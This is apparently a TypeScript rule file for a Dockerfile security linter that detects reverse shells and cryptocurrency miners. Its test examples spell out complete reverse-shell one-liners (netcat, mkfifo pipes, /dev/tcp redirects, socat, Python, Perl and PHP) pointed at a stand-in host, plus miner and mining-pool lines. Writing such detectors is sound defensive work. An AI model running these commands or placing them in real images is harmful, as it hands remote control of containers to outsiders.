import type { Rule } from './rule.ts';

const COMMANDS_RUN = ['RUN', 'CMD', 'ENTRYPOINT', 'HEALTHCHECK', 'ONBUILD'];
const REMOVE_IT = {
  en: 'Find out who put it there, take it out, and treat what the image could reach as known to others.',
  zh: '查明来源并删除，将该镜像可访问的一切视为已泄露。',
};
const SHELL_FOR_ALL = {
  en: 'Whoever connects, or is connected to, gets a shell in the container without a password.',
  zh: '连接方或被连接方无需密码即可获得容器内的 shell。',
};
const SHELL_ON_NETWORK = {
  en: 'The input and output of a shell go over the network: whoever is at the other end has the container.',
  zh: 'shell 的输入输出经由网络传输，对端即可控制容器。',
};

const SHELLS = ['sh', 'bash', 'zsh', 'ksh', 'dash', 'ash'];
const NETWORK = ['/dev/tcp/*', '/dev/udp/*'];

export const REVERSE_SHELLS: readonly Rule[] = [
  {
    id: 'netcat-shell',
    severity: 'critical',
    title: { en: 'netcat hands out a shell', zh: '使用 netcat 提供 shell' },
    why: SHELL_FOR_ALL,
    fix: REMOVE_IT,
    match: {
      kind: 'command',
      at: COMMANDS_RUN,
      run: [{ program: ['nc', 'ncat', 'netcat', 'nc.*'], options: ['-e=*', '-c=*', '--exec=*', '--sh-exec=*'] }],
    },
    examples: {
      matches: [
        'RUN nc -e /bin/sh 10.0.0.1 4444',
        'CMD ["nc", "-lvp", "4444", "-e", "/bin/bash"]',
        'RUN ncat --sh-exec "bash -i" 10.0.0.1 4444',
        'ENTRYPOINT ["sh", "-c", "nc -lk -p 9 -e sh"]',
      ],
      passes: [
        'RUN nc -z db 5432',
        'RUN until nc -w 1 db 5432; do sleep 1; done',
        'RUN apt-get install -y netcat-openbsd',
        'RUN echo nc -e sh',
      ],
    },
  },
  {
    id: 'netcat-shell-by-pipe',
    severity: 'critical',
    title: { en: 'A shell is connected to netcat by a pipe', zh: '通过管道将 shell 与 netcat 相连' },
    why: SHELL_ON_NETWORK,
    fix: REMOVE_IT,
    match: {
      kind: 'piped',
      from: [
        { program: ['nc', 'ncat', 'netcat', 'nc.*', 'telnet'] },
        { program: ['openssl'], subcommand: ['s_client'] },
      ],
      into: 'interpreter',
      orBack: true,
      at: COMMANDS_RUN,
    },
    examples: {
      matches: [
        'RUN mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1',
        'CMD ["sh", "-c", "nc -l 4444 | sh"]',
        'RUN telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445',
        'RUN rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
        'RUN sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/f',
      ],
      passes: [
        'RUN nc -l 4444 | tar x',
        'RUN sh -c "echo ruok" | nc zookeeper 2181',
        'RUN sh /report.sh | nc stats.example 2003',
        'RUN mkfifo /tmp/log && tail -f /tmp/log',
        'RUN echo | openssl s_client -connect x.example:443 | sed -n /BEGIN/p',
      ],
    },
  },
  {
    id: 'tcp-device-shell',
    severity: 'critical',
    title: { en: 'A shell is connected to the network by /dev/tcp', zh: '通过 /dev/tcp 将 shell 接入网络' },
    why: SHELL_ON_NETWORK,
    fix: REMOVE_IT,
    match: {
      kind: 'any',
      of: [
        {
          kind: 'command',
          at: COMMANDS_RUN,
          run: [{ program: SHELLS, redirects: NETWORK, unlessOptions: ['-c'] }],
        },
        { kind: 'piped', from: [{ redirects: NETWORK }], into: 'interpreter', at: COMMANDS_RUN },
        {
          kind: 'command',
          at: COMMANDS_RUN,
          run: [{ program: ['exec'], redirects: NETWORK }],
          andAny: [
            { program: SHELLS, redirects: ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', '1*', '2*', '&*'] },
            { program: ['read'] },
          ],
        },
      ],
    },
    examples: {
      matches: [
        'RUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        `CMD ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]`,
        'RUN /bin/sh < /dev/tcp/10.0.0.1/4444',
        'RUN exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196',
        'RUN exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
        'RUN cat < /dev/tcp/10.0.0.1/4444 | sh',
      ],
      passes: [
        'RUN timeout 5 bash -c "</dev/tcp/db/5432"',
        'RUN (echo > /dev/tcp/db/5432) 2>/dev/null',
        'HEALTHCHECK CMD bash -c "exec 3<>/dev/tcp/localhost/80"',
        'RUN bash -i > /dev/null',
        'RUN exec 3<>/dev/tcp/db/5432 && echo up >&3',
      ],
    },
  },
  {
    id: 'socat-shell',
    severity: 'critical',
    title: { en: 'socat hands out a shell', zh: '使用 socat 提供 shell' },
    why: SHELL_FOR_ALL,
    fix: REMOVE_IT,
    match: {
      kind: 'command',
      at: COMMANDS_RUN,
      run: [
        {
          program: ['socat'],
          words: ['exec:*sh', 'exec:*sh,*', 'exec:*sh *', "exec:*sh'*", 'system:*sh', 'system:*sh,*'],
        },
      ],
    },
    examples: {
      matches: [
        'RUN socat TCP:10.0.0.1:4444 EXEC:/bin/sh',
        `CMD ["socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/bash,pty,stderr"]`,
        `RUN socat exec:'bash -li',pty tcp:10.0.0.1:4444`,
      ],
      passes: [
        'CMD ["socat", "TCP-LISTEN:80,fork", "TCP:app:8080"]',
        'RUN socat - EXEC:/usr/bin/date',
        'RUN apk add socat',
      ],
    },
  },
  {
    id: 'script-reverse-shell',
    severity: 'critical',
    title: { en: 'A one-line program connects a shell to the network', zh: '单行程序将 shell 接入网络' },
    why: {
      en: 'A script opens a socket and hands it to a shell: whoever is at the other end has the container.',
      zh: '脚本打开套接字并交给 shell，对端即可控制容器。',
    },
    fix: REMOVE_IT,
    match: {
      kind: 'command',
      at: COMMANDS_RUN,
      run: [
        {
          program: ['python', 'python2*', 'python3*'],
          words: ['*socket*connect*dup2*', '*socket*connect*pty.spawn*', '*socket*connect*subprocess*sh*'],
        },
        { program: ['perl'], words: ['*socket*connect*exec*sh*'] },
        { program: ['ruby'], words: ['*TCPSocket*exec*sh*', '*TCPSocket*IO.popen*'] },
        { program: ['php'], words: ['*fsockopen*exec*sh*', '*fsockopen*proc_open*sh*'] },
        { program: ['node'], words: ['*net*connect*child_process*sh*', '*child_process*sh*net*connect*'] },
        { program: ['lua*'], words: ['*socket*connect*io.popen*', '*socket*connect*os.execute*'] },
        { program: ['awk', 'gawk'], words: ['*/inet/tcp/*|&*getline*'] },
      ],
    },
    examples: {
      matches: [
        `RUN python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
        `CMD ["php", "-r", "$s=fsockopen(\\"10.0.0.1\\",4444);exec(\\"/bin/sh -i <&3\\");"]`,
        `RUN perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));exec("/bin/sh -i");'`,
      ],
      passes: [
        `RUN python3 -c 'import socket; socket.create_connection(("db", 5432)).close()'`,
        `HEALTHCHECK CMD php -r 'fsockopen("localhost", 80);'`,
        'RUN pip install python-socketio',
      ],
    },
  },
  {
    id: 'mining-pool',
    severity: 'critical',
    title: { en: 'The image mines cryptocurrency', zh: '镜像中包含挖矿程序' },
    why: {
      en: 'A miner or the address of a mining pool is the usual payload of malicious images.',
      zh: '挖矿程序或矿池地址是恶意镜像的常见载荷。',
    },
    fix: REMOVE_IT,
    match: {
      kind: 'instruction',
      instructions: ['RUN', 'CMD', 'ENTRYPOINT', 'ENV', 'ARG', 'COPY', 'ADD'],
      words: [
        '*stratum+tcp://*',
        '*stratum+ssl://*',
        '*stratum2+tcp://*',
        '*xmrig*',
        '*xmr-stak*',
        '*minerd',
        '*cpuminer*',
        '*ethminer*',
        '*nbminer*',
      ],
      unless: ['rm', 'pkill', 'killall'],
    },
    examples: {
      matches: [
        'CMD ["/x", "-o", "stratum+tcp://pool.example:3333"]',
        'RUN git clone https://github.com/xmrig/xmrig',
        'ENV POOL=stratum+ssl://pool.example:443',
      ],
      passes: ['RUN pkill xmrig || true', 'RUN echo stratum', 'COPY text-miner /app', 'RUN pip install process-miner'],
    },
  },
];
